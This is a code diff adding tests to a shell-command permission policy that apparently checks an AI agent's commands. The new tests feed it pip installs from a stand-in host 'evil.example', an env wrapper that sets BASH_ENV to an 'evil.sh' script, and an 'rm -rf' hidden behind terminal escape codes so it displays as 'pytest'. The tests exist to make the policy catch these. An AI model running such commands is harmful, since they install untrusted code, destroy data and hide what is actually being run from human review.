@@ -182,6 +182,12 @@ const options: Row[] = [
   [["python3", "-m", "pytest", "-q"], "allow", "shell.whitelist"],
   [["python3", "-B", "main.py", "-m", "timeit", "-c", "x"], "ask", "shell.python-inline"],
   [["python3", "main.py", "--mode", "paper"], "allow", "shell.whitelist"],
+  [["pip", "install", "--ind", "evil.example/simple", "x"], "ask", "shell.pip-index"],
+  [["pip", "install", "-qievil.example", "x"], "ask", "shell.pip-index"],
+  [["pip3", "install", "--trusted=evil.example", "x"], "ask", "shell.pip-index"],
+  [["pip", "install", "--no-index", "--find", "wheels", "x"], "ask", "shell.pip-index"],
+  [["pip", "install", "-q", "-r", "requirements.txt"], "allow", "shell.whitelist"],
+  [["pip", "install", "--user", "requests==2.32.3"], "allow", "shell.whitelist"],
 ];
 
 describe("wrappers are judged by what they wrap; strictest wins", () => {
@@ -233,6 +239,20 @@ describe("wrappers are judged by what they wrap; strictest wins", () => {
     const part = v.parts.find((p) => p.ruleId === OPTION);
     expect(part?.decision).toBe("ask");
     expect(part?.reason).toContain("`--frobnicate`");
+  });
+
+  it("names a reserved variable a wrapper sets for the command (env BASH_ENV=… bash -c …)", () => {
+    const v = evaluateCommand(policy, { argv: ["env", "BASH_ENV=/workspace/evil.sh", "PIP_INDEX_URL=x", "A=1", "bash", "-c", "true"] });
+    expect(v.decision).toBe("ask");
+    const part = v.parts.find((p) => p.ruleId === "shell.env-reserved");
+    expect(part?.reason).toContain("sets BASH_ENV, PIP_INDEX_URL");
+    expect(evaluateCommand(policy, { argv: ["env", "A=1", "pytest"] }).parts.some((p) => p.ruleId === "shell.env-reserved")).toBe(false);
+  });
+
+  it("refuses the issue's disguised `sh -c` string: a control character in the script cannot be judged", () => {
+    const v = evaluateCommand(policy, { argv: ["sh", "-c", "rm -rf /workspace/x #\u001b[35Dpytest -q tests/\u001b[K"] });
+    expect(v.decision).toBe("forbid");
+    expect(evaluateCommand(policy, { command: "sh -c $'rm -rf /workspace/x #\\e[35Dpytest -q tests/\\e[K'" }).decision).toBe("forbid");
   });
 
   it("bounds the nesting of wrappers", () => {
